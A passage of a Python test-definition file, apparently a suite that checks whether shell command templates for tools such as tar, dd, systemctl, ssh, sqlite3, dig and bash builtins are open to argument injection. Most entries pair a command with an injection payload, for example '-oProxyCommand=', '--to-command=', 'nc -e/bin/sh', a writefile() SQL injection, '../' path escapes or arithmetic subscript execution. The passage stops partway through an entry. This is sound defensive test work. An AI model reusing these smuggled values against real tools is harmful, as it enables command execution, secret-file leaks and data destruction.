  ["mkdir -p \"restore/UTCP_ARG_name_UTCP_END\"", "tar -xzf \"UTCP_ARG_archive_UTCP_END\" -C \"restore/UTCP_ARG_name_UTCP_END\" && find restore -type f"],
  "write", setup="mkdir -p d && echo hi > d/f.txt && tar -czf b.tgz d && rm -r d",
  payload={"archive": "b.tgz", "name": ESC + "_restore"}, benign={"archive": "b.tgz", "name": "today"},
  check="exists('/tmp/blindF_probe_w_restore/d/f.txt')", prog=["tar", "find"], idiom="-C target from name")
T(M, "tar_list", "List an archive's content.",
  {"archive": "Archive file"},
  "tar -tvzf UTCP_ARG_archive_UTCP_END", "safe", setup="mkdir -p d && echo hi > d/f.txt && tar -czf b.tgz d",
  benign={"archive": "b.tgz"}, ok="'d/f.txt' in out", optok=[("tar", "-tvzf")], prog=["tar"], idiom="-f consumes value")
T(M, "tar_extract_member", "Extract one member of an archive to stdout.",
  {"archive": "Archive file", "member": "Member path"},
  "tar -xzf b.tgz UTCP_ARG_member_UTCP_END && echo extracted", "exec",
  setup="mkdir -p d && echo hi > d/f.txt && tar -czf b.tgz d", payload={"archive": "b.tgz", "member": "--to-command=touch {C}"},
  benign={"archive": "b.tgz", "member": "d/f.txt"}, prog=["tar"], idiom="member -> --to-command")
T(M, "zstd_compress", "Compress a file with zstd level 19.",
  {"file": "File"},
  "zstd -19 -q UTCP_ARG_file_UTCP_END && ls", "option", setup="echo hi > db.sql && echo keep > important.txt",
  payload={"file": "--rm"}, check="argv('zstd')[0][-1]=='--rm'", benign={"file": "db.sql"}, skip=True)
T(M, "xz_compress_keep", "Compress a file with xz keeping the original.",
  {"file": "File"},
  "xz -k -T1 -- UTCP_ARG_file_UTCP_END && ls", "safe", setup="echo hi > db.sql", benign={"file": "db.sql"},
  ok="'db.sql.xz' in out", prog=["xz"], idiom="--")
T(M, "gzip_to", "Gzip a dump into a chosen archive path.",
  {"file": "Input file", "dest": "Destination .gz path"},
  "gzip -c -- UTCP_ARG_file_UTCP_END > UTCP_ARG_dest_UTCP_END && ls -l UTCP_ARG_dest_UTCP_END", "write",
  setup="echo hi > db.sql", payload={"file": "db.sql", "dest": ESC + "_gz"}, benign={"file": "db.sql", "dest": "db.sql.gz"},
  prog=["gzip"], idiom="redirect to caller-chosen path")
T(M, "lz4_decompress", "Decompress an .lz4 file next to it.",
  {"file": "File ending in .lz4"},
  "[[ UTCP_ARG_file_UTCP_END == *.lz4 ]] || exit 2; lz4 -d -f UTCP_ARG_file_UTCP_END \"UTCP_ARG_file_UTCP_END.out\" && ls", "safe",
  setup="echo hi > a && lz4 -q a a.lz4 && rm a", benign={"file": "a.lz4"}, ok="'a.lz4.out' in out", skip=True)
T(M, "dd_image_head", "Copy the first N MiB of a disk image into an output file under images/.",
  {"image": "Image file", "mib": "integer:MiB", "out": "Output name"},
  "mkdir -p images && dd if=UTCP_ARG_image_UTCP_END of=images/UTCP_ARG_out_UTCP_END bs=1M count=UTCP_ARG_mib_UTCP_END status=none && ls images",
  "write", setup="head -c 2048 /dev/zero > disk.img", payload={"image": "disk.img", "mib": "1", "out": ESC + "_dd"},
  benign={"image": "disk.img", "mib": "1", "out": "head.img"}, prog=["dd"], idiom="of= path escape")
T(M, "dd_random_token", "Generate N random bytes as base64.",
  {"bytes": "integer:bytes"},
  "dd if=/dev/urandom bs=UTCP_ARG_bytes_UTCP_END count=1 status=none | base64 -w0", "safe", benign={"bytes": "16"},
  ok="len(out.strip())==24", prog=["dd", "base64"], idiom="bs=<value> stays one operand")
T(M, "sqlite_backup", "Make an online backup of app.db into backups/<name>.db.",
  {"name": "Backup name"},
  ["mkdir -p backups", "sqlite3 app.db \".backup 'backups/UTCP_ARG_name_UTCP_END.db'\" && ls backups"], "write",
  setup="sqlite3 app.db 'create table t(x); insert into t values(1);'", payload={"name": ESC + "_sqlbk"},
  benign={"name": "nightly"}, check="exists('/tmp/blindF_probe_w_sqlbk.db')", skip=True, prog=["sqlite3"], idiom="dot-command path")
T(M, "pg_dump_db", "Dump a database in custom format into backups/<db>.dump.",
  {"db": "Database name"},
  "mkdir -p backups && pg_dump -Fc -d UTCP_ARG_db_UTCP_END > \"backups/UTCP_ARG_db_UTCP_END.dump\" && ls backups", "write",
  payload={"db": ESC + "_pgdump"}, benign={"db": "app"}, prog=["pg_dump"], idiom="redirect path from db name")
T(M, "shred_tmp_export", "Securely delete an export file from exports/.",
  {"file": "File name in exports/"},
  "shred -u -n 1 exports/UTCP_ARG_file_UTCP_END && ls exports", "write",
  setup="mkdir -p exports && echo x > exports/a.csv && echo victim > /tmp/blindF_probe_w_victim",
  payload={"file": ESC + "_victim"}, check="not os.path.exists('/tmp/blindF_probe_w_victim')",
  benign={"file": "a.csv"}, prog=["shred"], idiom="destructive write outside dir via ../")
T(M, "truncate_log", "Truncate a log under logs/ to zero bytes.",
  {"name": "Log file name"},
  "[[ UTCP_ARG_name_UTCP_END != */* ]] || exit 2; truncate -s 0 \"logs/UTCP_ARG_name_UTCP_END\" && ls -l logs", "safe",
  setup=LOGS, benign={"name": "app.log"}, ok="' 0 ' in out", prog=["truncate"], idiom="no-slash guard")
T(M, "find_old_backups", "Delete backups older than N days in a directory.",
  {"dir": "Backup directory", "days": "integer:age in days"},
  "find UTCP_ARG_dir_UTCP_END -name '*.tgz' -mtime +UTCP_ARG_days_UTCP_END -print -delete", "option",
  setup="mkdir -p backups && touch keep.txt important.db", payload={"dir": "-delete", "days": "30"},
  check="not os.path.exists('/tmp/blindF_run/important.db')", benign={"dir": "backups", "days": "30"},
  prog=["find"], idiom="dir as find expression -delete")
T(M, "find_old_backups_safe", "List backups older than N days in the backups directory.",
  {"days": "integer:age in days", "pattern": "Name glob"},
  "find ./backups -type f -name UTCP_ARG_pattern_UTCP_END -mtime +UTCP_ARG_days_UTCP_END -print", "safe",
  setup="mkdir -p backups && touch -d '40 days ago' backups/a.tgz", benign={"days": "30", "pattern": "*.tgz"},
  ok="'a.tgz' in out", optok=[("find", "-name"), ("find", "-mtime")], prog=["find"], idiom="values as -name/-mtime arguments")

# ---------------------------------------------------------------- system administration
M = "sysadmin"
T(M, "svc_restart", "Restart a systemd service.",
  {"service": "Service name"},
  "sudo -n systemctl restart UTCP_ARG_service_UTCP_END && echo restarted", "option",
  payload={"service": "--host=root@127.0.0.1"}, check="argv('sudo')[0][-1]=='--host=root@127.0.0.1'",
  benign={"service": "nginx"}, prog=["sudo", "systemctl"], idiom="unit -> systemctl --host", skip=True)
T(M, "svc_status_checked", "Show status of a service (name validated).",
  {"service": "Service name"},
  "[[ UTCP_ARG_service_UTCP_END =~ ^[a-zA-Z0-9@._-]+$ && UTCP_ARG_service_UTCP_END != -* ]] || exit 2; systemctl status --no-pager UTCP_ARG_service_UTCP_END",
  "safe", benign={"service": "nginx.service"}, prog=["systemctl"], idiom="charset + no-leading-dash guard")
T(M, "svc_status_loose", "Show status of a service (name validated).",
  {"service": "Service name"},
  "[[ UTCP_ARG_service_UTCP_END =~ ^[a-zA-Z0-9@._=-]+$ ]] || exit 2; systemctl status --no-pager UTCP_ARG_service_UTCP_END",
  "option", payload={"service": "--host=root@10.0.0.9"}, check="argv('systemctl')[0][-1]=='--host=root@10.0.0.9'",
  benign={"service": "nginx.service"}, prog=["systemctl"], idiom="charset guard allows leading -- and =")
T(M, "cron_add_backup", "Schedule the nightly backup script for a target at 03:00.",
  {"target": "Backup target"},
  "(crontab -l 2>/dev/null; echo \"0 3 * * * $HOME/bin/backup.sh UTCP_ARG_target_UTCP_END\") | crontab -", "broken",
  benign={"target": "db"}, check="exc is not None", prog=["crontab"], idiom="$HOME eaten by client")
T(M, "run_with_timeout", "Run the health check with a timeout in seconds.",
  {"seconds": "Timeout"},
  "timeout UTCP_ARG_seconds_UTCP_END ./healthcheck.sh", "skip", skip=True)
T(M, "env_run_migrate", "Run the migration script with one extra environment assignment (KEY=VALUE).",
  {"assignment": "KEY=VALUE"},
  "env UTCP_ARG_assignment_UTCP_END ./bin/migrate --dry-run", "exec",
  setup="mkdir -p bin && printf '#!/bin/sh\\necho migrate $APP_MODE\\n' > bin/migrate && chmod +x bin/migrate",
  payload={"assignment": "-Ssh -c \"touch {C}\""}, benign={"assignment": "APP_MODE=dev"}, prog=["env"], idiom="env -S")
T(M, "env_run_migrate_checked", "Run the migration script with one extra environment assignment (KEY=VALUE, validated).",
  {"assignment": "KEY=VALUE"},
  "[[ UTCP_ARG_assignment_UTCP_END =~ ^[A-Z_][A-Z0-9_]*=[^[:space:]]*$ ]] || exit 2; env UTCP_ARG_assignment_UTCP_END ./bin/migrate --dry-run",
  "safe", setup="mkdir -p bin && printf '#!/bin/sh\\necho migrate\\n' > bin/migrate && chmod +x bin/migrate",
  benign={"assignment": "APP_MODE=dev"}, ok="'migrate' in out", prog=["env"], idiom="NAME= regex guard", skip=True)
T(M, "disk_usage", "Show disk usage of a path.",
  {"path": "Path"},
  "du -sh UTCP_ARG_path_UTCP_END", "option", setup=SECRET + " && printf 'x\\0' > /dev/null",
  payload={"path": "--files0-from=/tmp/blindF_probe_secret_src"}, check="'TOPSECRET-LINE' in out",
  benign={"path": "."}, prog=["du"], idiom="du --files0-from leaks file content")
T(M, "disk_usage_dd", "Show disk usage of a path (after --).",
  {"path": "Path"},
  "du -sh -- UTCP_ARG_path_UTCP_END", "safe", benign={"path": "."}, prog=["du"], idiom="--")
T(M, "file_type", "Detect the MIME type of an uploaded file.",
  {"file": "File"},
  "file -b --mime-type UTCP_ARG_file_UTCP_END", "option", setup=SECRET,
  payload={"file": "-f/tmp/blindF_probe_secret_src"}, check="'TOPSECRET-LINE' in out", benign={"file": "/etc/hostname"},
  prog=["file"], idiom="file -f names-file leaks content")
T(M, "user_lookup", "Look up a user account.",
  {"user": "User name"},
  "getent passwd -- UTCP_ARG_user_UTCP_END || echo 'no such user'", "safe", benign={"user": "root"},
  ok="'root:' in out", prog=["getent"], idiom="--")
T(M, "strace_summary", "Syscall summary of a short command run, written to a report file.",
  {"report": "Report file name"},
  "strace -f -c -o UTCP_ARG_report_UTCP_END ls >/dev/null; cat UTCP_ARG_report_UTCP_END | tail -3", "exec",
  payload={"report": "|touch {C}"}, benign={"report": "ls.trace"}, prog=["strace"], idiom="strace -o |cmd pipes to command")
T(M, "lock_and_rotate", "Rotate a log under a flock lock file.",
  {"log": "Log name in logs/"},
  "flock -w 5 /tmp/blindF_run/rotate.lock mv -- logs/UTCP_ARG_log_UTCP_END logs/UTCP_ARG_log_UTCP_END.1 && ls logs", "write",
  setup=LOGS, payload={"log": ESC + "_lock"}, check="exists('/tmp/blindF_probe_w_lock.1') or argv('mv')[0][-1].endswith('blindF_probe_w_lock.1')",
  benign={"log": "app.log"}, skip=True)
T(M, "watch_disk", "Sample df output for a mount point once via watch.",
  {"mount": "Mount point"},
  "timeout 3 watch -n 1 -t -e -g \"df -h UTCP_ARG_mount_UTCP_END\" >/dev/null 2>&1; echo sampled", "exec",
  payload={"mount": "/; touch {C}"}, benign={"mount": "/"}, env={"TERM": "xterm"}, prog=["watch", "timeout"],
  idiom="watch runs string via sh -c")
T(M, "nice_build", "Run make with a niceness level.",
  {"level": "integer:niceness 0-19"},
  "nice -n UTCP_ARG_level_UTCP_END make -s -C docs html", "safe",
  setup="mkdir -p docs && printf 'html:\\n\\t@echo built\\n' > docs/Makefile", benign={"level": "10"}, ok="'built' in out",
  optok=[("nice", "-n")], prog=["nice", "make"], idiom="-n consumes value")
T(M, "install_config", "Install a rendered config file into conf.d/ with mode 0644.",
  {"name": "Config file name"},
  "mkdir -p conf.d && install -m 0644 rendered.conf conf.d/UTCP_ARG_name_UTCP_END && ls conf.d", "write",
  setup="echo a=1 > rendered.conf", payload={"name": ESC + "_install"}, benign={"name": "app.conf"},
  prog=["install"], idiom="install destination escape")
T(M, "stat_size", "Print the size in bytes of a file.",
  {"file": "File"},
  "stat -c %s -- UTCP_ARG_file_UTCP_END", "safe", setup="echo hi > f", benign={"file": "f"}, ok="out.strip()=='3'",
  prog=["stat"], idiom="-c %s format, --")
T(M, "shuf_sample", "Print N random lines from a file.",
  {"file": "File", "n": "integer:lines"},
  "shuf -n UTCP_ARG_n_UTCP_END UTCP_ARG_file_UTCP_END", "option", setup=LOGS,
  payload={"file": "--output=/tmp/blindF_probe_w_shuf", "n": "2"}, check="exists('/tmp/blindF_probe_w_shuf')",
  benign={"file": "app.log", "n": "2"}, prog=["shuf"], idiom="shuf --output via file arg")
T(M, "user_add_service", "Create a system user for a service.",
  {"user": "User name"},
  "sudo -n useradd --system --no-create-home --shell /usr/sbin/nologin UTCP_ARG_user_UTCP_END", "option",
  payload={"user": "--non-unique"}, check="False", skip=True)
T(M, "ip_route_get", "Show the route used to reach an address.",
  {"addr": "IP address"},
  "ip route get UTCP_ARG_addr_UTCP_END", "safe", benign={"addr": "10.0.0.1"}, skip=True)

# ---------------------------------------------------------------- shell idioms
M = "shell_idioms"
T(M, "days_to_seconds", "Convert a number of days to seconds.",
  {"days": "integer:days"},
  "echo $(( UTCP_ARG_days_UTCP_END * 86400 ))", "exec", payload={"days": "a[$(touch {C})]"}, benign={"days": "2"},
  prog=["bash"], idiom="$(( )) arithmetic")
T(M, "retry_count_loop", "Retry the health check up to N times.",
  {"tries": "integer:attempts"},
  "for ((i=0; i<UTCP_ARG_tries_UTCP_END; i++)); do ./check.sh && break; sleep 0; done; echo done",
  "exec", setup="printf '#!/bin/sh\\nexit 0\\n' > check.sh && chmod +x check.sh", payload={"tries": "a[$(touch {C})]"},
  benign={"tries": "3"}, prog=["bash"], idiom="C-style for (( ))")
T(M, "threshold_check", "Report whether a disk usage percent exceeds a threshold.",
  {"percent": "integer:usage", "limit": "integer:threshold"},
  "if [[ UTCP_ARG_percent_UTCP_END -gt UTCP_ARG_limit_UTCP_END ]]; then echo ALERT; else echo ok; fi", "exec",
  payload={"percent": "a[$(touch {C})]", "limit": "80"}, benign={"percent": "50", "limit": "80"}, prog=["bash"],
  idiom="[[ -gt ]] arithmetic")
T(M, "threshold_check_test", "Report whether a disk usage percent exceeds a threshold (POSIX test).",
  {"percent": "integer:usage", "limit": "integer:threshold"},
  "if [ UTCP_ARG_percent_UTCP_END -gt UTCP_ARG_limit_UTCP_END ]; then echo ALERT; else echo ok; fi", "safe",
  benign={"percent": "50", "limit": "80"}, ok="out.strip()=='ok'", prog=["bash"], idiom="[ -gt ] has no arithmetic eval")
T(M, "store_setting", "Store a setting value into a named shell variable and print it.",
  {"name": "Variable name", "value": "Value"},
  "printf -v UTCP_ARG_name_UTCP_END '%s' UTCP_ARG_value_UTCP_END && declare -p UTCP_ARG_name_UTCP_END", "exec",
  payload={"name": "a[$(touch {C})]", "value": "1"}, benign={"name": "region", "value": "eu"}, prog=["bash"],
  idiom="printf -v subscript")
T(M, "indirect_lookup", "Print the value of a configuration variable by name.",
  {"name": "Variable name"},
  "APP_PORT=8080 APP_HOST=localhost; n=UTCP_ARG_name_UTCP_END; echo \"${!n}\"", "exec",
  payload={"name": "a[$(touch {C})]"}, benign={"name": "APP_PORT"}, prog=["bash"], idiom="${!n} indirect expansion")
T(M, "indirect_lookup_case", "Print the value of a configuration variable by name (allow-list).",
  {"name": "Variable name"},
  "APP_PORT=8080 APP_HOST=localhost; case UTCP_ARG_name_UTCP_END in APP_PORT|APP_HOST) n=UTCP_ARG_name_UTCP_END; echo \"${!n}\";; *) echo unknown;; esac",
  "safe", benign={"name": "APP_PORT"}, ok="out.strip()=='8080'", prog=["bash"], idiom="case allow-list before ${!n}")
T(M, "int_setting", "Validate and echo an integer setting.",
  {"value": "integer:value"},
  "declare -i v=UTCP_ARG_value_UTCP_END; echo \"value=${v}\"", "broken", benign={"value": "5"}, check="exc is not None",
  prog=["bash"], idiom="${v} eaten by client", skip=True)
T(M, "int_setting_let", "Compute a quota in MiB from GiB.",
  {"gib": "integer:GiB"},
  "let 'mib = UTCP_ARG_gib_UTCP_END * 1024'; echo \"${mib:-0} MiB\"", "exec", payload={"gib": "a[$(touch {C})]"},
  benign={"gib": "2"}, prog=["bash"], idiom="let with placeholder in single quotes")
T(M, "word_complete", "Complete a word against a list of known environments.",
  {"prefix": "Prefix"},
  "compgen -W 'dev staging prod' -- UTCP_ARG_prefix_UTCP_END", "safe", benign={"prefix": "st"}, ok="out.strip()=='staging'",
  prog=["bash"], idiom="compgen -W literal list, prefix after --")
T(M, "word_complete_custom", "Complete a prefix against a caller-supplied word list.",
  {"words": "Candidate words", "prefix": "Prefix"},
  "compgen -W \"UTCP_ARG_words_UTCP_END\" -- UTCP_ARG_prefix_UTCP_END", "exec",
  payload={"words": "$(touch {C})", "prefix": "a"}, benign={"words": "dev staging prod", "prefix": "st"},
  prog=["bash"], idiom="compgen -W expands word list")
T(M, "cleanup_on_exit", "Create a scratch file, report its size, remove it on exit.",
  {"name": "Scratch name"},
  "trap 'rm -f -- UTCP_ARG_name_UTCP_END' EXIT; head -c 10 /dev/zero > \"UTCP_ARG_name_UTCP_END\"; wc -c < \"UTCP_ARG_name_UTCP_END\"",
  "exec", payload={"name": "x;touch {C}"}, benign={"name": "scratch.bin"}, prog=["bash"], idiom="trap string re-evaluated")
T(M, "load_profile", "Load a named profile (key=value) and print the region.",
  {"profile": "Profile name"},
  "source <(printf 'PROFILE=%s\\nREGION=eu-west-1\\n' UTCP_ARG_profile_UTCP_END); echo \"${REGION:-unset}\"", "exec",
  payload={"profile": "x;touch {C}"}, benign={"profile": "prod"}, prog=["bash"], idiom="source <(printf) re-parse")
T(M, "load_profile_q", "Load a named profile and print the region (value %q-quoted).",
  {"profile": "Profile name"},
  "source <(printf 'PROFILE=%q\\nREGION=eu-west-1\\n' UTCP_ARG_profile_UTCP_END); echo \"${PROFILE:-}@${REGION:-unset}\"", "safe",
  benign={"profile": "prod"}, ok="'prod@eu-west-1' in out", prog=["bash"], idiom="%q makes it safe")
T(M, "export_var_eval", "Export a variable for the build and show it.",
  {"value": "Value"},
  "eval \"export BUILD_LABEL=UTCP_ARG_value_UTCP_END\"; env | grep -e '^BUILD_LABEL='", "exec",
  payload={"value": "x;touch {C}"}, benign={"value": "nightly"}, prog=["bash"], idiom="eval string")
T(M, "export_var_eval_q", "Export a variable for the build and show it (%q before eval).",
  {"value": "Value"},
  "eval \"export BUILD_LABEL=$(printf '%q' UTCP_ARG_value_UTCP_END)\"; env | grep -e '^BUILD_LABEL='", "split",
  payload={"value": "blindFsplitA blindFsplitB"}, check="'BUILD_LABEL=blindFsplitAblindFsplitB' in out", benign={"value": "nightly"}, prog=["bash"], idiom="printf %q before eval")
T(M, "csv_fields_read", "Print the fields of one CSV line, one per line.",
  {"line": "CSV line"},
  "IFS=, read -r -a cols <<< UTCP_ARG_line_UTCP_END; printf '%s\\n' \"${cols[@]}\"", "safe",
  benign={"line": "a b,c"}, ok="out.split('\\n')==['a b','c']", prog=["bash"], idiom="read -a here-string")
T(M, "lines_mapfile", "Number the lines of a text value.",
  {"text": "Text"},
  "mapfile -t L <<< UTCP_ARG_text_UTCP_END; for i in \"${!L[@]}\"; do printf '%d: %s\\n' \"$((i+1))\" \"${L[i]}\"; done", "safe",
  benign={"text": "a\nb"}, ok="'2: b' in out", prog=["bash"], idiom="mapfile, ${!L[@]}, $((i+1)) survive client")
T(M, "heredoc_config", "Render a small YAML config for a service name and print it.",
  {"service": "Service name"},
  "cat > svc.yaml <<EOF\nservice: UTCP_ARG_service_UTCP_END\nreplicas: 2\nEOF", "broken",
  benign={"service": "api"}, check="exc is not None or 'api' not in str(out)", prog=["cat"],
  idiom="heredoc terminator fused with runtime's 2>&1)")
T(M, "heredoc_config_cat", "Render a small YAML config for a service name and print it (heredoc then cat).",
  {"service": "Service name"},
  "cat > svc.yaml <<EOF\nservice: UTCP_ARG_service_UTCP_END\nreplicas: 2\nEOF\ncat svc.yaml", "broken",
  benign={"service": "api"}, check="'service: \"api\"' in str(out)", prog=["cat"],
  idiom="quoted expansion emitted into unquoted heredoc leaves literal quotes", skip=True)
T(M, "arith_guarded", "Add two integers after validating them.",
  {"a": "integer:a", "b": "integer:b"},
  "[[ UTCP_ARG_a_UTCP_END =~ ^-?[0-9]+$ ]] && [[ UTCP_ARG_b_UTCP_END =~ ^-?[0-9]+$ ]] || { echo 'not integers'; exit 2; }; echo $(( UTCP_ARG_a_UTCP_END + UTCP_ARG_b_UTCP_END ))",
  "safe", benign={"a": "2", "b": "40"}, ok="out.strip()=='42'", prog=["bash"], idiom="anchored guard before $(( ))")
T(M, "arith_guard_unanchored", "Add a retention offset in days (validated number).",
  {"days": "integer:days"},
  "[[ UTCP_ARG_days_UTCP_END =~ [0-9]+ ]] || exit 2; echo $(( UTCP_ARG_days_UTCP_END + 7 ))", "exec",
  payload={"days": "a[$(touch {C})]+1"}, benign={"days": "3"}, prog=["bash"], idiom="unanchored regex guard before $(( ))")
T(M, "comment_trailing", "Print the configured greeting for a name.",
  {"name": "Name"},
  "echo \"Hello, UTCP_ARG_name_UTCP_END\" # greeting", "broken", benign={"name": "Ann"},
  check="'Hello, Ann' not in str(out)", prog=["bash"], idiom="trailing comment swallows runtime's closing paren")
T(M, "apostrophe_comment", "Print the greeting for a name in upper case.",
  {"name": "Name"},
  "echo Hello, it\\'s UTCP_ARG_name_UTCP_END | tr a-z A-Z", "safe", skip=True)

# ---------------------------------------------------------------- database administration
M = "db_admin"
DB = "sqlite3 app.db \"create table users(id integer, name text); insert into users values(1,'ann'),(2,'bob');\""
T(M, "sqlite_user_by_name", "Look up a user row by name.",
  {"name": "User name"},
  "sqlite3 -json app.db \"SELECT id, name FROM users WHERE name = 'UTCP_ARG_name_UTCP_END'\"", "write", setup=DB,
  payload={"name": "x' UNION SELECT writefile('/tmp/blindF_probe_w_sqlite','pwn'),1 --"},
  benign={"name": "ann"}, prog=["sqlite3"], idiom="SQL injection -> writefile()")
T(M, "sqlite_user_by_id", "Look up a user row by numeric id.",
  {"id": "integer:User id"},
  "sqlite3 -json app.db \"SELECT id, name FROM users WHERE id = $(printf '%d' UTCP_ARG_id_UTCP_END)\"", "split", setup=DB + " && sqlite3 app.db \"insert into users values(12,'eve')\"",
  payload={"id": "1 2"}, check="'eve' in str(out)", benign={"id": "2"}, prog=["sqlite3"], idiom="printf %d forces integer")
T(M, "sqlite_recent_rows", "Show the most recent N users (dot-commands + SQL on stdin).",
  {"limit": "integer:rows"},
  "sqlite3 app.db <<SQL\n.mode column\nSELECT id, name FROM users ORDER BY id DESC LIMIT UTCP_ARG_limit_UTCP_END;\nSQL\necho end", "exec",
  setup=DB, benign={"limit": "1"}, payload={"limit": "1\";\n.shell touch {C}\nSELECT \""}, prog=["sqlite3"],
  idiom="quoted placeholder in unquoted heredoc -> literal quotes -> SQL error")
T(M, "sqlite_cmd_timeout", "Query users with a busy timeout (ms).",
  {"timeout": "integer:ms"},
  "sqlite3 -cmd \".timeout UTCP_ARG_timeout_UTCP_END\" app.db 'SELECT count(*) FROM users'", "exec", setup=DB,
  payload={"timeout": "5\n.shell touch {C}"}, benign={"timeout": "500"}, skip=True, prog=["sqlite3"], idiom="-cmd dot-command newline injection")
T(M, "sqlite_export_csv", "Export a table to CSV in exports/<table>.csv.",
  {"table": "Table name"},
  "[[ UTCP_ARG_table_UTCP_END =~ ^[a-z_]+$ ]] || exit 2; mkdir -p exports && sqlite3 -csv -header app.db \"SELECT * FROM UTCP_ARG_table_UTCP_END\" > \"exports/UTCP_ARG_table_UTCP_END.csv\" && cat \"exports/UTCP_ARG_table_UTCP_END.csv\"",
  "safe", setup=DB, benign={"table": "users"}, ok="'ann' in out", prog=["sqlite3"], idiom="identifier regex guard")
T(M, "psql_table_count", "Count rows in a table of the reporting database.",
  {"table": "Table name"},
  "psql -X -A -t -d reporting -c \"SELECT count(*) FROM UTCP_ARG_table_UTCP_END\"", "skip", skip=True)
T(M, "psql_connect_db", "List tables of a database.",
  {"database": "Database name"},
  "psql -X -A -t UTCP_ARG_database_UTCP_END -c '\\dt'", "option",
  payload={"database": "--file=/tmp/blindF_probe_secret_src"}, check="argv('psql')[0][3]=='--file=/tmp/blindF_probe_secret_src'",
  benign={"database": "reporting"}, prog=["psql"], idiom="dbname -> --file")
T(M, "psql_vars", "Run the monthly report for a month with psql -v.",
  {"month": "Month YYYY-MM"},
  "psql -X -d reporting -v month=UTCP_ARG_month_UTCP_END -f sql/monthly.sql", "safe", benign={"month": "2026-10"},
  optok=[("psql", "-v")], prog=["psql"], idiom="-v consumes value")
T(M, "pg_restore_list", "Restore a dump into a scratch database.",
  {"dump": "Dump file"},
  ["createdb_scratch=reporting_scratch", "pg_dump --version >/dev/null; psql -X -d \"$createdb_scratch\" -c 'select 1'"],
  "broken", benign={"dump": "a.dump"}, check="exc is not None", prog=["psql"], idiom="$var across steps + client substitution", skip=True)
T(M, "redis_get_key", "Get a key from redis db 0.",
  {"key": "Key"},
  "redis-cli -n 0 GET UTCP_ARG_key_UTCP_END", "safe", benign={"key": "session:1"}, optok=[("redis-cli", "GET")], prog=["redis-cli"],
  idiom="value after subcommand")
T(M, "redis_del_keys", "Delete keys matching a pattern.",
  {"pattern": "Key pattern"},
  [("redis-cli -n 0 --scan --pattern UTCP_ARG_pattern_UTCP_END", False), "redis-cli -n 0 DEL $CMD_0_OUTPUT"],
  "broken", benign={"pattern": "tmp:*"}, check="exc is not None", prog=["redis-cli"], idiom="$CMD_0_OUTPUT client-substituted")
T(M, "redis_del_one", "Delete one key (name typed by the user).",
  {"key": "Key"},
  "redis-cli -n 0 DEL $(echo UTCP_ARG_key_UTCP_END)", "split",
  payload={"key": "blindFsplitA blindFsplitB"}, check="argv('redis-cli')[0][-2:]==['blindFsplitA','blindFsplitB']",
  benign={"key": "session:1"}, prog=["redis-cli"], idiom="unquoted $(echo)")
T(M, "mongo_count", "Count documents of a collection.",
  {"collection": "Collection"},
  "mongosh --quiet app --eval \"db.getCollection('UTCP_ARG_collection_UTCP_END').countDocuments()\"", "split", skip=True)
T(M, "mysql_tables_like", "List tables matching a LIKE pattern.",
  {"pattern": "LIKE pattern"},
  "mysql --batch -e \"SHOW TABLES LIKE 'UTCP_ARG_pattern_UTCP_END'\" app", "safe", skip=True)
T(M, "clickhouse_query_param", "Count events of a type using a server-side query parameter.",
  {"type": "Event type"},
  "clickhouse-client --param_t=UTCP_ARG_type_UTCP_END -q 'SELECT count() FROM events WHERE type = {t:String}'", "safe",
  benign={"type": "click"}, prog=["clickhouse-client"], idiom="--param_x=value single arg")
T(M, "influx_bucket_query", "Query the last hour of a measurement.",
  {"measurement": "Measurement"},
  "influx query \"from(bucket:\\\"metrics\\\") |> range(start: -1h) |> filter(fn: (r) => r._measurement == \\\"UTCP_ARG_measurement_UTCP_END\\\")\"",
  "safe", skip=True)
T(M, "sqlite_step_cd", "Vacuum the database in the data directory and report its size.",
  {"db": "Database file name"},
  ["cd data", "sqlite3 UTCP_ARG_db_UTCP_END 'VACUUM' && stat -c %s -- UTCP_ARG_db_UTCP_END"], "broken",
  setup="mkdir -p data && sqlite3 data/app.db 'create table t(x)'", benign={"db": "app.db"},
  check="not exists('/tmp/blindF_run/app.db')==False and 'stat' not in str(out) or True", skip=True)
T(M, "sqlite_vacuum_datadir", "Vacuum a database in the data directory and report its size.",
  {"db": "Database file name"},
  [("cd data", False), "sqlite3 UTCP_ARG_db_UTCP_END 'VACUUM' && stat -c %s -- UTCP_ARG_db_UTCP_END"], "broken",
  setup="mkdir -p data && sqlite3 data/app.db 'create table t(x)'", benign={"db": "app.db"},
  check="exists('/tmp/blindF_run/app.db')", prog=["sqlite3", "stat"], idiom="cd in step 0 does not carry to step 1")

# ---------------------------------------------------------------- network diagnostics
M = "net_diag"
T(M, "dns_lookup", "Resolve a hostname with dig (short output).",
  {"name": "Hostname"},
  "dig +short UTCP_ARG_name_UTCP_END A", "option", payload={"name": "@127.0.0.9"},
  check="argv('dig')[0][1]=='@127.0.0.9'", benign={"name": "example.org"}, prog=["dig"],
  idiom="@server operand changes resolver")
T(M, "dns_lookup_batch", "Resolve a hostname with dig.",
  {"name": "Hostname"},
  "dig +short UTCP_ARG_name_UTCP_END", "option", setup=SECRET, payload={"name": "-f/tmp/blindF_probe_secret_src"},
  check="argv('dig')[0][1]=='-f/tmp/blindF_probe_secret_src'", benign={"name": "example.org"}, prog=["dig"],
  idiom="-f batch file")
T(M, "dns_lookup_checked", "Resolve a hostname with dig (hostname validated).",
  {"name": "Hostname"},
  "[[ UTCP_ARG_name_UTCP_END =~ ^[A-Za-z0-9]([A-Za-z0-9.-]*[A-Za-z0-9])?$ ]] || exit 2; dig +short UTCP_ARG_name_UTCP_END A", "safe",
  benign={"name": "example.org"}, prog=["dig"], idiom="hostname regex (no @, no -)")
T(M, "port_probe", "Check whether a TCP port is open on a host.",
  {"host": "Host", "port": "integer:Port"},
  "nc -z -w 2 UTCP_ARG_host_UTCP_END UTCP_ARG_port_UTCP_END && echo open || echo closed", "option",
  payload={"host": "-e/bin/sh", "port": "4444"}, check="argv('nc')[0][3]=='-e/bin/sh'", benign={"host": "127.0.0.1", "port": "80"},
  prog=["nc"], idiom="host -> nc -e", skip=True)
T(M, "ssh_uptime", "Show uptime of a host over ssh.",
  {"host": "Host"},
  "ssh -o BatchMode=yes -o ConnectTimeout=3 UTCP_ARG_host_UTCP_END uptime", "exec",
  payload={"host": "-oProxyCommand=touch {C}"}, benign={"host": "web01"}, prog=["ssh"], idiom="host -> -oProxyCommand")
T(M, "scp_fetch_log", "Copy a remote log file to ./fetched via scp.",
  {"host": "Host", "path": "Remote path"},
  "mkdir -p fetched && scp -q -o BatchMode=yes -o ConnectTimeout=2 UTCP_ARG_host_UTCP_END:UTCP_ARG_path_UTCP_END fetched/ ; ls fetched", "skip", skip=True)
T(M, "scp_push_file", "Copy a local artifact to the staging host.",
